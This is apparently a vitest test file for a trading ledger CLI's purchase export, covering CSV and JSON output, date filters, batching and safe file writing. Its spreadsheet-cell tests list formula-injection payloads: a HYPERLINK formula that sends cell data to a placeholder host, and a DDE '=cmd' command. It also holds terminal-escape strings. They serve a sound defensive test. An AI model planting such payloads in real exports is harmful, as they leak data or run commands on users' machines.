import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvLine, textCell } from '../../src/cli/csv.ts';
import type { Ledger } from '../../src/ledger/ledger.ts';
import { begun, outcomes, raw, readBalance, settled } from '../ledger/support.ts';
import { NOON, dollars, listing } from '../support/values.ts';
import { ledgerAt, magpie, place } from './harness.ts';

const withConfig = ['--config', 'magpie.yaml'] as const;

/** A purchase that was paid and came back, one that was refused, one of whose listing the name is `name`. */
function scene(name = 'AK-47 | Redline (Field-Tested)'): { cwd: string; ledger: Ledger } {
  const cwd = place();
  const ledger = ledgerAt(cwd);
  const { id: purchaseId } = settled(ledger, begun(ledger, 1), outcomes.bought('order-1'));
  const booked = {
    kind: 'refund',
    purchaseId,
    amount: dollars(10.49),
    transactionId: 't2',
    note: 'back',
    bookedAt: NOON + 60_000,
  };
  ledger.apply([{ kind: 'paid', purchaseId, paid: dollars(10.49), transactionId: 't1', note: 'a cent less' }], NOON + 5_000);
  ledger.apply([booked as Parameters<Ledger['apply']>[0][number]], NOON + 90_000);
  settled(ledger, begun(ledger, 2), outcomes.refused());
  const fields = { id: '3', name, price: 0.035, priceWithFee: 0.0375 };
  readBalance(ledger, 1_000, NOON + 3_599_000);
  begun(ledger, 3, NOON + 3_600_000, { listing: listing(fields) });
  return { cwd, ledger };
}

/** What RFC 4180 says that a text holds. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.slice(0, -1);
}

function columnOf(csv: string, name: string): string[] {
  const [head = [], ...rows] = cellsOf(csv);
  return rows.map((row) => row[head.indexOf(name)] ?? 'no such column');
}

describe('export purchases', () => {
  it('writes one row a purchase with every amount and when money moved, oldest first', async () => {
    const { cwd } = scene();
    const { code, out, err } = await magpie(['export', 'purchases', ...withConfig], { cwd });
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(out.replaceAll('\r\n', '\n')).toMatchInlineSnapshot(`
      "id,state,mode,strategy,market,listingId,itemId,marketHashName,wear,paintSeed,price,priceWithFee,steamPrice,expectedCost,paid,paidAt,refunded,refundedAt,serviceOrderId,upstreamOrderId,orderStatus,reason,createdAt,answeredAt,completedAt,updatedAt,shadow,shadowReason
      1,refunded,live,cheap,c5game,1,10807006fab895f4,AK-47 | Redline (Field-Tested),0.2,1,10.00,10.50,20.00,10.50,10.49,2026-01-05T12:00:05.000Z,10.49,2026-01-05T12:01:00.000Z,order-1,,SUCCESS,back,2026-01-05T12:00:00.001Z,2026-01-05T12:00:00.002Z,,2026-01-05T12:59:59.001Z,,
      2,rejected,live,cheap,c5game,2,10807006fab895f4,AK-47 | Redline (Field-Tested),0.2,1,10.00,10.50,20.00,10.50,,,0.00,,,,,LISTING_GONE: gone,2026-01-05T12:00:00.001Z,2026-01-05T12:00:00.002Z,,2026-01-05T12:00:00.002Z,,
      3,intended,live,cheap,c5game,3,10807006fab895f4,AK-47 | Redline (Field-Tested),0.2,1,0.035,0.0375,20.00,0.0375,,,0.00,,,,,,2026-01-05T13:00:00.000Z,,,2026-01-05T13:00:00.000Z,,
      "
    `);
    expect(out.split('\r\n')).toHaveLength(5);
    expect(out.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('gives a program the same as one JSON array, with the exact decimals', async () => {
    const { cwd } = scene();
    const { out } = await magpie(['export', 'purchases', '--json', ...withConfig], { cwd });
    const rows = JSON.parse(out) as Record<string, unknown>[];
    expect(rows.map(({ id, state, paid, refunded, refundedAt }) => ({ id, state, paid, refunded, refundedAt }))).toEqual([
      { id: 1, state: 'refunded', paid: 10.49, refunded: 10.49, refundedAt: '2026-01-05T12:01:00.000Z' },
      { id: 2, state: 'rejected', paid: null, refunded: 0, refundedAt: null },
      { id: 3, state: 'intended', paid: null, refunded: 0, refundedAt: null },
    ]);
    expect(out).toContain('"price":0.035,"priceWithFee":0.0375');
    const none = await magpie(['export', 'purchases', '--json', '--since', '2027-01-01', ...withConfig], { cwd });
    expect(JSON.parse(none.out)).toEqual([]);
  });

  it('takes those made since one time and before another', async () => {
    const { cwd } = scene();
    const ids = async (...args: readonly string[]): Promise<string[]> =>
      columnOf((await magpie(['export', 'purchases', ...args, ...withConfig], { cwd })).out, 'id');
    expect(await ids('--since', '2026-01-05T13:00Z')).toEqual(['3']);
    expect(await ids('--until', '2026-01-05T13:00Z')).toEqual(['1', '2']);
    expect(await ids('--since', '2026-01-05', '--until', '2026-01-06')).toEqual(['1', '2', '3']);
    expect((await magpie(['export', 'purchases', '--until', 'soon', ...withConfig], { cwd })).err).toContain(
      '--until "soon" is no time',
    );
  });

  it('reads a batch at a time, and each row once', async () => {
    const { cwd, ledger } = scene();
    const db = raw(join(cwd, 'data'));
    const columns = (db.pragma('table_xinfo(purchases)') as { name: string; hidden: number }[])
      .filter(({ name, hidden }) => hidden === 0 && name !== 'id' && name !== 'listing_id')
      .map(({ name }) => name)
      .join(', ');
    const copies = 'WITH RECURSIVE n(i) AS (SELECT 10 UNION ALL SELECT i + 1 FROM n WHERE i < 1209)';
    db.exec(`INSERT INTO purchases (listing_id, ${columns}) ${copies} SELECT i, ${columns} FROM n, purchases WHERE id = 3`);
    const sizes = [...ledger.purchasesBetween(0, Infinity)].map((rows) => rows.length);
    expect(sizes).toEqual([500, 500, 203]);
    const { out } = await magpie(['export', 'purchases', ...withConfig], { cwd });
    const ids = columnOf(out, 'id').map(Number);
    expect(ids).toEqual([...new Set(ids)].toSorted((one, other) => one - other));
    expect(ids).toHaveLength(1_203);
  });
});

describe('a cell of a spreadsheet', () => {
  const attacks = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\u0000=1',
    '＝1+1',
    '=HYPERLINK("http://x/?"&A1,"y")',
    '=cmd|"/c calc"!A1',
  ];

  it.each(attacks)('%j is a text, whatever program opens it, and can be read back [S19]', async (name) => {
    const { cwd } = scene(name);
    const { out } = await magpie(['export', 'purchases', ...withConfig], { cwd });
    const [, , cell = ''] = columnOf(out, 'marketHashName');
    expect(cell.startsWith("'")).toBe(true);
    expect(['\t', '\r', '\n', '\0'].filter((control) => cell.includes(control))).toEqual([]);
    expect(cellsOf(out).map((row) => row.length)).toEqual([28, 28, 28, 28]);
  });

  it('holds quotes, commas and line breaks as RFC 4180 says, and nothing that a terminal obeys', () => {
    const texts = ['plain', 'a,b', 'say "x"', ' blank ', 'two\r\nlines', '\u001b[2J', '\u202ereversed', '', '★ Karambit', 'a;=1'];
    expect(cellsOf(csvLine(texts.map(textCell)))[0]).toEqual([
      ...[
        'plain',
        'a,b',
        'say "x"',
        ' blank ',
        'two\\u000d\\u000alines',
        '\\u001b[2J',
        '\\u202ereversed',
        '',
        '★ Karambit',
        'a;=1',
      ],
    ]);
    expect(textCell('say "x"')).toBe('"say ""x"""');
  });
});

describe('export to a file', () => {
  it('makes a new one that only its owner reads, and says so beside it', async () => {
    const { cwd } = scene();
    const { code, out, err } = await magpie(['export', 'purchases', '-o', 'mine.csv', ...withConfig], { cwd });
    expect({ code, out }).toEqual({ code: 0, out: '' });
    expect(err).toBe('3 purchases written to mine.csv\nConfiguration magpie.yaml, data folder data\n');
    expect(statSync(join(cwd, 'mine.csv')).mode & 0o777).toBe(0o600);
    const shown = await magpie(['export', 'purchases', ...withConfig], { cwd });
    expect(readFileSync(join(cwd, 'mine.csv'), 'utf8')).toBe(shown.out);
  });

  it('overwrites nothing, and leaves nothing where it cannot be written', async () => {
    const { cwd } = scene();
    writeFileSync(join(cwd, 'mine.csv'), 'mine');
    const taken = await magpie(['export', 'purchases', '-o', 'mine.csv', ...withConfig], { cwd });
    expect(taken.code).toBe(2);
    expect(taken.err).toContain('mine.csv is there already');
    expect(readFileSync(join(cwd, 'mine.csv'), 'utf8')).toBe('mine');
    const nowhere = await magpie(['export', 'purchases', '-o', 'no/where.csv', ...withConfig], { cwd });
    expect(nowhere.code).toBe(1);
    expect(nowhere.err).toContain('Nothing was written: ENOENT');
    expect(readdirSync(cwd).filter((name) => name.includes('part'))).toEqual([]);
  });

  it('is refused for what cannot be exported, both forms at once, and where there is no ledger', async () => {
    const cwd = place();
    expect((await magpie(['export', 'orders', ...withConfig], { cwd })).code).toBe(2);
    expect((await magpie(['export', 'purchases', '--csv', '--json', ...withConfig], { cwd })).code).toBe(2);
    const none = await magpie(['export', 'purchases', ...withConfig], { cwd });
    expect(none.code).toBe(1);
    expect(none.err).toContain('There is no ledger in');
  });
});
